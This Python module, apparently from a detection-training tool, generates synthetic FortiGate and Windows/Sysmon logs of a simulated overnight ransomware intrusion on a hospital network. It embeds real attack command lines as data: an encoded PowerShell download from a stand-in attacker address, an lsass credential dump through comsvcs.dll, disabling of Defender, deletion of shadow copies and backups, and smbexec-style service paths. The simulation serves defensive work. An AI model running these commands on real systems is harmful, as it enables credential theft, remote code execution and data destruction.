"""``ransomware``: the chain French hospitals suffered in 2022-2023, over one night.

Timeline (hospital local time, UTC+1, from 23:37): password guessing on "admin", then a
password spray on the SSL-VPN (the directory sees every attempt); one password works, the
intruder opens RDP on the victim's office PC, looks around (whoami, domain admins, domain
controllers, a network scan through the core firewall), fetches a tool with encoded
PowerShell, dumps lsass with comsvcs.dll and so finds a helpdesk administrator's credentials,
installs remote services (smbexec style) and opens RDP sessions on the file servers, a domain
controller and the backup server, deletes shadow copies and the backup catalogue, disables
recovery, and at about 03:10 encrypts the file shares.
"""

from __future__ import annotations

import base64
import random
from datetime import UTC, datetime

from sentinelle.scenarios import fortigate, windows
from sentinelle.scenarios.background import (
    CMD,
    DEPARTMENTS,
    LSASS,
    POWERSHELL,
    SERVICES,
    network_logon,
    system_spawn,
    vpn_tunnel,
)
from sentinelle.scenarios.manifest import Attack, Containment, Step
from sentinelle.scenarios.topology import Host
from sentinelle.scenarios.traffic import session
from sentinelle.scenarios.windows import SECURITY, SYSMON, SYSTEM, Process
from sentinelle.scenarios.world import Account, World

NAME = "ransomware"
# 2023-12-02 22:00 local (21:00 UTC) to 2023-12-03 08:00 local.
WINDOW_START = datetime(2023, 12, 2, 21, 0, tzinfo=UTC).timestamp()
WINDOW_HOURS = 10.0
ATTACK_START = WINDOW_START + 1 * 3600 + 37 * 60 + 13  # 23:37:13 local: guessing "admin"
SPRAY_START = ATTACK_START + 4 * 60  # 23:41:13 local: one password against many accounts
ATTACKER_IP = "198.51.100.23"
RANSOM_EXT = "hsp24"
_GUESSES = (
    "admin",
    "administrateur",
    "test",
    "accueil",
    "secretariat",
    "scanner",
    "formation",
    "stagiaire",
    "support",
    "vpn",
    "compta",
    "rh",
)


class _Chain:
    """The intruder's state as the night goes on, and the steps written to the manifest."""

    def __init__(self, w: World) -> None:
        self.w = w
        self.rng = w.rng("ransomware")
        self.attack = Attack(
            "ransomware-chain", "Ransomware intrusion through the SSL-VPN", ATTACK_START
        )
        self.netbios = w.topo.netbios

    def step(
        self, name: str, tactic: str, technique: str, ts: float, host: Host, detail: str = ""
    ) -> None:
        ip = host.ip
        self.attack.steps.append(
            Step(name, tactic, technique, ts, host.name.lower(), ip, host.site, detail)
        )

    def step_across(
        self, name: str, tactic: str, technique: str, ts: float, hosts: list[Host]
    ) -> None:
        """A step over several hosts: recorded on the first, naming them all."""
        self.step(name, tactic, technique, ts, hosts[0], ", ".join(h.name.lower() for h in hosts))

    def run(
        self,
        cmd_host: Host,
        parent: Process,
        ts: float,
        image: str,
        cmdline: str,
        account: Account,
        lid: str,
        integrity: str = "High",
    ) -> Process:
        return self.w.spawn(
            ts,
            cmd_host,
            parent,
            image,
            cmdline,
            user=account.qualified(self.netbios),
            user_sid=account.sid,
            logon_id=lid,
            rng=self.rng,
            integrity=integrity,
        )

    def run_system(
        self, host: Host, parent: Process, ts: float, image: str, cmdline: str
    ) -> Process:
        """A command run by a service: as LocalSystem, in session 0."""
        return system_spawn(self.w, self.rng, ts, host, parent, image, cmdline)


def attack(w: World) -> tuple[list[Attack], list[Containment]]:
    c = _Chain(w)
    rng = c.rng
    topo = w.topo
    vpn_host = topo.dmz["vpn"]
    dc = topo.first_with_tag("dc")
    office = [h for h in topo.workstations if h.zone == "office" and h.site == dc.site and h.sysmon]
    beachhead = (office or topo.workstations)[0]
    victim = w.users[7]
    helpdesk = w.admins[1]
    files = topo.with_tag("file")
    backup = topo.with_tag("backup")[:1]

    # 1. Guessing the default administrator accounts, then a password spray on the SSL-VPN;
    # the gateway checks each password against a domain controller (LDAP), which logs it too.
    t = ATTACK_START
    c.step(
        "Password guessing on the SSL-VPN portal",
        "credential-access",
        "T1110.001",
        t,
        vpn_host,
        f"from {ATTACKER_IP}, 24 passwords for admin",
    )
    for _ in range(24):
        _vpn_failure(c, dc, "admin", t, known=False)
        t += rng.uniform(4, 6)
    t = SPRAY_START
    names = [u.sam for u in rng.sample(w.users, 40)] + list(_GUESSES)
    rng.shuffle(names)
    c.step(
        "Password spray on the SSL-VPN portal",
        "credential-access",
        "T1110.003",
        t,
        vpn_host,
        f"from {ATTACKER_IP}, {len(names)} accounts, one password each",
    )
    known = {u.sam for u in w.users}
    for name in names:
        _vpn_failure(c, dc, name, t, known=name in known)
        t += rng.uniform(3, 8)

    # 2. One password worked: a tunnel for the victim, from the spraying address.
    t = SPRAY_START + 9 * 60
    tunnel_ip = w.vpn_ip(31)
    vpn_tunnel(w, t, victim, ATTACKER_IP, tunnel_ip, 31, up=True)
    w.logon(
        t - 1,
        dc,
        victim,
        rng,
        logon_type=3,
        ip=vpn_host.inside_ip,
        workstation=vpn_host.name,
        package="NTLM",
    )
    c.step(
        "Valid VPN logon with the sprayed password",
        "initial-access",
        "T1133",
        t,
        vpn_host,
        f"account {victim.sam}, tunnel address {tunnel_ip}",
    )

    # 3. RDP from the tunnel to the victim's office PC.
    t += 5 * 60
    session(
        w,
        rng,
        t - 1,
        firewall=topo.core,
        edge=False,
        src=tunnel_ip,
        dst=beachhead.ip,
        dport=3389,
        sent=2_000_000,
        received=40_000_000,
        duration=9000,
        src_intf="ssl.root",
        dst_intf="office",
    )
    lid = w.logon(
        t, beachhead, victim, rng, logon_type=10, ip=tunnel_ip, workstation="DESKTOP-8KQ2M1T"
    )
    shell = windows.new_process(
        rng,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\explorer.exe",
        victim.qualified(c.netbios),
        lid,
    )
    c.step(
        "RDP session on an office PC from the VPN",
        "lateral-movement",
        "T1021.001",
        t,
        beachhead,
        f"{victim.sam} from {tunnel_ip}",
    )

    # 4. Discovery by hand, then a scan through the core firewall.
    t += 6 * 60
    c.step("Discovery of the domain and its administrators", "discovery", "T1087.002", t, beachhead)
    cmd = c.run(beachhead, shell, t, CMD, "cmd.exe", victim, lid, "Medium")
    for image, line in (
        ("whoami.exe", "whoami /all"),
        ("net.exe", 'net group "Admins du domaine" /domain'),
        ("nltest.exe", f"nltest /dclist:{topo.dns_domain}"),
        ("net.exe", f"net view \\\\{files[0].name.lower()}" if files else "net view"),
        ("ipconfig.exe", "ipconfig /all"),
        ("systeminfo.exe", "systeminfo"),
        ("quser.exe", "quser"),
    ):
        t += rng.uniform(15, 60)
        c.run(beachhead, cmd, t, f"C:\\Windows\\System32\\{image}", line, victim, lid, "Medium")
    t += 60
    c.step(
        "Network scan of the server segment",
        "discovery",
        "T1046",
        t,
        beachhead,
        "SMB and RDP sweep, then a port scan of three servers",
    )
    _scan(w, rng, beachhead, t)

    # 5. A tool fetched with encoded PowerShell, then lsass dumped through comsvcs.dll.
    t += 6 * 60
    fetch = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/s.ps1')"
    encoded = base64.b64encode(fetch.encode("utf-16-le")).decode()
    c.step("Tool download with encoded PowerShell", "execution", "T1059.001", t, beachhead)
    ps = c.run(
        beachhead, cmd, t, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", victim, lid
    )
    if beachhead.sysmon:
        w.win(
            beachhead,
            SYSMON,
            t + 1.5,
            windows.sysmon_network(
                t + 1.5,
                beachhead,
                ps,
                src_port=rng.randrange(49152, 65535),
                dst_ip=ATTACKER_IP,
                dst_port=80,
            ),
        )
    session(
        w,
        rng,
        t + 2,
        firewall=topo.edge,
        edge=True,
        src=topo.public_ip["nat"],
        dst=ATTACKER_IP,
        dport=80,
        sent=400,
        received=180_000,
        duration=1.5,
        src_intf="internal",
        dst_intf="wan1",
        log_src=beachhead.ip,
    )
    t += 15 * 60
    lsass = w.system_process(beachhead, LSASS)
    dump = c.run(
        beachhead,
        cmd,
        t,
        "C:\\Windows\\System32\\rundll32.exe",
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} "
        "C:\\Users\\Public\\Music\\d.bin full",
        victim,
        lid,
    )
    if beachhead.sysmon:
        w.win(
            beachhead,
            SYSMON,
            t + 0.3,
            windows.sysmon_process_access(
                t + 0.3,
                beachhead,
                dump,
                lsass,
                access="0x1fffff",
                call_trace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6b1d|"
                "C:\\Windows\\System32\\comsvcs.dll+3b2a3",
            ),
        )
        w.win(
            beachhead,
            SYSMON,
            t + 2,
            windows.sysmon_file_create(t + 2, beachhead, dump, "C:\\Users\\Public\\Music\\d.bin"),
        )
    c.step(
        "Credential dumping from lsass (comsvcs MiniDump)",
        "credential-access",
        "T1003.001",
        t,
        beachhead,
        f"finds the cached credentials of {helpdesk.sam}",
    )

    # 6. Remote services (smbexec style) on the servers that matter, with the stolen admin.
    t += 35 * 60
    targets = [*files, dc, *backup]
    c.step_across("Remote service creation on servers", "lateral-movement", "T1021.002", t, targets)
    for host in targets:
        t += rng.uniform(20, 90)
        _remote_service(c, host, beachhead, helpdesk, t, _smbexec_path(rng))

    # 7. RDP with the stolen admin account to a DC, a file server and the backup server.
    t += 10 * 60
    rdp_targets = [dc, *files[:1], *backup]
    c.step_across(
        "RDP lateral movement with a stolen administrator account",
        "lateral-movement",
        "T1021.001",
        t,
        rdp_targets,
    )
    for host in rdp_targets:
        t += rng.uniform(120, 360)
        _to_servers(
            w, rng, t - 1, beachhead, host.ip, 3389, sent=500_000, received=9_000_000, duration=1800
        )
        w.logon(t, host, helpdesk, rng, logon_type=10, ip=beachhead.ip, workstation=beachhead.name)

    # 8. At three in the morning: no way back (shadow copies, backups, recovery).
    t = max(t + 20 * 60, WINDOW_START + 5 * 3600)  # 03:00 local
    c.step(
        "Shadow copies deleted and recovery disabled",
        "impact",
        "T1490",
        t,
        (files or [dc])[0],
        "Defender disabled by policy, then vssadmin, wmic, bcdedit, wbadmin on the file and"
        " backup servers",
    )
    for host in files + backup:
        services = w.system_process(host, SERVICES)
        shell_svc = c.run_system(host, services, t, CMD, "cmd.exe /Q /c C:\\Windows\\Temp\\x.bat")
        # Defender off first, through the policy keys, so nothing stops the encryptor.
        reg = c.run_system(
            host,
            shell_svc,
            t + 0.5,
            "C:\\Windows\\System32\\reg.exe",
            'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" '
            "/v DisableAntiSpyware /t REG_DWORD /d 1 /f",
        )
        if host.sysmon:
            w.win(
                host,
                SYSMON,
                t + 0.6,
                windows.sysmon_registry_set(
                    t + 0.6,
                    host,
                    reg,
                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                    "DWORD (0x00000001)",
                ),
            )
        for image, line in (
            ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            ("wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
            ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
            ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ):
            t += rng.uniform(1, 4)
            c.run_system(host, shell_svc, t, f"C:\\Windows\\System32\\{image}", line)
        if host in backup:
            t += 2
            c.run_system(
                host,
                shell_svc,
                t,
                "C:\\Windows\\System32\\wbadmin.exe",
                "wbadmin.exe delete catalog -quiet",
            )
        t += rng.uniform(20, 60)

    # 9. Encryption of the shares, one service per file server.
    t += 8 * 60
    c.step(
        "Mass encryption of the file shares",
        "impact",
        "T1486",
        t,
        (files or [dc])[0],
        f"files renamed *.{RANSOM_EXT}, ransom notes LISEZ-MOI-{RANSOM_EXT.upper()}.txt",
    )
    for host in files:
        _encrypt(c, host, beachhead, helpdesk, t + rng.uniform(0, 40))
    return [c.attack], []


def _vpn_failure(c: _Chain, dc: Host, name: str, t: float, *, known: bool) -> None:
    """One failed SSL-VPN login, as the gateway logs it and as the DC it asked logs it."""
    w, topo = c.w, c.w.topo
    vpn_host = topo.dmz["vpn"]
    reason = "sslvpn_login_permission_denied" if known else "sslvpn_login_unknown_user"
    w.fw(
        topo.vpn,
        t,
        fortigate.vpn_login_failed(topo.vpn, t, user=name, remote_ip=ATTACKER_IP, reason=reason),
    )
    w.win(
        dc,
        SECURITY,
        t + 0.2,
        windows.logon_failure(
            t + 0.2,
            dc,
            user=f"{c.netbios}\\{name}",
            logon_type=3,
            ip=vpn_host.inside_ip,
            port=str(c.rng.randrange(1024, 65535)),
            workstation=vpn_host.name,
            sub_status=windows.STATUS_BAD_PASSWORD if known else windows.STATUS_NO_SUCH_USER,
        ),
    )


def _smbexec_path(rng: random.Random) -> str:
    return (
        "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
        f"%TEMP%\\execute{rng.randrange(100, 999)}.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & "
        "del %TEMP%\\execute.bat"
    )


def _remote_service(
    c: _Chain, host: Host, source: Host, admin: Account, t: float, path: str
) -> None:
    w, rng = c.w, c.rng
    _to_servers(w, rng, t - 2, source, host.ip, 445, sent=40_000, received=12_000, duration=3)
    network_logon(w, rng, t, host, admin, source, "NTLM")
    name = "".join(
        rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(8)
    )
    w.win(
        host,
        SYSTEM,
        t + 1,
        windows.service_installed_7045(t + 1, host, name=name, path=path, user_sid=admin.sid),
    )
    services = w.system_process(host, SERVICES)
    c.run_system(
        host, services, t + 1.5, CMD, path.replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe")
    )


def _encrypt(c: _Chain, host: Host, source: Host, admin: Account, t: float) -> None:
    w, rng = c.w, c.rng
    binary = "C:\\Windows\\Temp\\wupdsvc.exe"
    _remote_service(c, host, source, admin, t, f"{binary} -path D:\\Partages -threads 8")
    services = w.system_process(host, SERVICES)
    locker = c.run_system(host, services, t + 3, binary, f"{binary} -path D:\\Partages -threads 8")
    if not host.sysmon:
        return
    t += 5
    for dept in DEPARTMENTS:
        note = f"D:\\Partages\\{dept}\\LISEZ-MOI-{RANSOM_EXT.upper()}.txt"
        w.win(host, SYSMON, t, windows.sysmon_file_create(t, host, locker, note))
        for n in range(90):
            t += rng.uniform(0.05, 0.35)
            ext = rng.choice(("docx", "xlsx", "pdf", "odt", "jpg", "dcm"))
            path = f"D:\\Partages\\{dept}\\dossier-{n // 15:02d}\\doc-{n:04d}.{ext}.{RANSOM_EXT}"
            w.win(host, SYSMON, t, windows.sysmon_file_create(t, host, locker, path))


def _to_servers(
    w: World,
    rng: random.Random,
    ts: float,
    source: Host,
    dst: str,
    dport: int,
    *,
    allowed: bool = True,
    sent: int = 0,
    received: int = 0,
    duration: float = 0.0,
) -> None:
    """A session from the office PC to the server segment, through the core firewall."""
    session(
        w,
        rng,
        ts,
        firewall=w.topo.core,
        edge=False,
        src=source.ip,
        dst=dst,
        dport=dport,
        allowed=allowed,
        sent=sent,
        received=received,
        duration=duration,
        src_intf="office",
        dst_intf="servers",
    )


def _scan(w: World, rng: random.Random, source: Host, t: float) -> None:
    """An SMB/RDP sweep of the server segment, then a port scan of three servers."""
    allowed_smb = {h.ip for h in w.topo.with_tag("file")}
    base = [h for h in w.topo.servers if h.site == source.site]
    sweep = sorted({h.ip for h in base} | {f"10.10.0.{i}" for i in range(1, 64)})
    for ip in sweep:
        for port in (445, 3389):
            t += rng.uniform(0.05, 0.25)
            ok = port == 445 and ip in allowed_smb
            _to_servers(
                w,
                rng,
                t,
                source,
                ip,
                port,
                allowed=ok,
                sent=300 if ok else 0,
                received=300 if ok else 0,
                duration=0.1,
            )
    ports = list(range(1, 1025, 7))
    for host in base[:3]:
        for port in ports:
            t += rng.uniform(0.02, 0.12)
            _to_servers(w, rng, t, source, host.ip, port, allowed=False)
